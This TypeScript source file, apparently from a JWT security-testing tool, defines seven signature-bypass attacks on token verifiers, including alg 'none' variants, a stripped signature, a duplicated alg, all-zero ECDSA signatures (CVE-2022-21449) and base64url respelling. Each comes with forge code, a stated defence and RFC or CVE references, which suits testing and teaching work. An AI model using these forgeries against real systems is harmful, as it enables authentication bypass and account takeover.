import { JsonObject } from "../../base/json/value.ts";
import { ALGORITHM_TRAITS, isJwsAlgorithm } from "../../jose/algorithms.ts";
import type { Attack } from "./attack.ts";
import type { AttackTarget } from "./target.ts";

/** Attacks without a new signature, against verifiers that do not check the signature, or not properly. */
export const SIGNATURE_ATTACKS: readonly Attack[] = [
  {
    id: "edit",
    title: "claims edited, signature kept",
    how: "change what the token says and leave its signature as it was, for those who only decode tokens",
    defence: "the signature covers header and payload: one changed character and it no longer fits",
    reference: "RFC 7515 section 5.2, RFC 8725 section 3.3",
    notApplicable: needsSignature,
    forge: ({ header }) => ({ header, signature: { kind: "kept" } }),
  },
  {
    id: "strip",
    title: "signature taken off",
    how: "send header and payload with nothing after the last dot, for those who check a signature only if there is one",
    defence: "a token without a signature is never valid",
    reference: "RFC 8725 section 2.1, CVE-2020-28042",
    notApplicable: needsSignature,
    forge: ({ header }) => ({ header, signature: { kind: "removed" } }),
  },
  {
    id: "none",
    title: "alg none",
    how: "declare the token unsigned, for those who let the token choose how it is verified",
    defence: "the algorithm is the key's, never the header's, and none is always refused",
    reference: "RFC 8725 sections 2.1 and 3.2",
    notApplicable: ({ alg }) => (alg === "none" ? "it says alg none already" : undefined),
    forge: ({ header }) => ({ header: header.with("alg", "none"), signature: { kind: "removed" } }),
  },
  {
    id: "none-case",
    title: "alg nOnE",
    how: "spell none in odd capitals, for those who only refuse the exact word",
    defence: "algorithms are allowed by name, not forbidden by name",
    reference: "RFC 8725 sections 2.1 and 3.2",
    forge: ({ header }) => ({ header: header.with("alg", "nOnE"), signature: { kind: "removed" } }),
  },
  {
    id: "duplicate-alg",
    title: "alg given twice",
    how: "write alg twice, so that a gateway reads the first and the service behind it the second: none",
    defence: "a header or payload with a repeated member is refused, whichever reader takes which",
    reference: "RFC 7515 section 4",
    decisiveCheck: "duplicates",
    notApplicable: ({ alg }) => (alg === undefined ? "its header has no alg" : undefined),
    forge: ({ header }) => ({
      header: new JsonObject([...header.members, ["alg", "none"]]),
      signature: { kind: "removed" },
    }),
  },
  {
    id: "psychic",
    title: "signature of zeros",
    how: "send an ECDSA signature in which both numbers are 0, which fits any token where 0 is not refused",
    defence: "both numbers of an ECDSA signature must lie between 1 and the order of the curve",
    reference: "CVE-2022-21449",
    notApplicable: ({ alg }) => (ecdsaBytes(alg) === undefined ? "it is not signed with ECDSA" : undefined),
    forge: ({ header, alg }) => ({
      header,
      signature: { kind: "made-up", bytes: new Uint8Array(ecdsaBytes(alg) ?? 0) },
    }),
  },
  {
    id: "respelled",
    title: "signature spelled differently",
    how: "set unused bits in the last character of the signature: the same bytes in another text, unknown to block lists",
    defence: "there is one spelling of base64url, and every other is refused",
    reference: "RFC 7515 section 2, RFC 4648 section 3.5",
    keepsClaims: true,
    notApplicable: (target) =>
      needsSignature(target) ??
      (respelled(target.segments.signature) === undefined
        ? "the last character of its signature has no unused bits"
        : undefined),
    forge: ({ header, segments }) => ({
      header,
      signature: { kind: "respelled", text: respelled(segments.signature) ?? segments.signature },
    }),
  },
];

function needsSignature({ segments }: AttackTarget): string | undefined {
  return segments.signature === "" ? "it has no signature" : undefined;
}

function ecdsaBytes(alg: string | undefined): number | undefined {
  if (!isJwsAlgorithm(alg) || ALGORITHM_TRAITS[alg].family !== "ecdsa") return undefined;
  return ALGORITHM_TRAITS[alg].signatureBytes;
}

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/** Another base64url text that a lenient decoder reads as the same bytes; undefined when no bit is unused. */
function respelled(text: string): string | undefined {
  if (text.length % 4 === 0) return undefined;
  const last = ALPHABET.indexOf(text.slice(-1));
  return last < 0 ? undefined : text.slice(0, -1) + ALPHABET.charAt(last | 1);
}
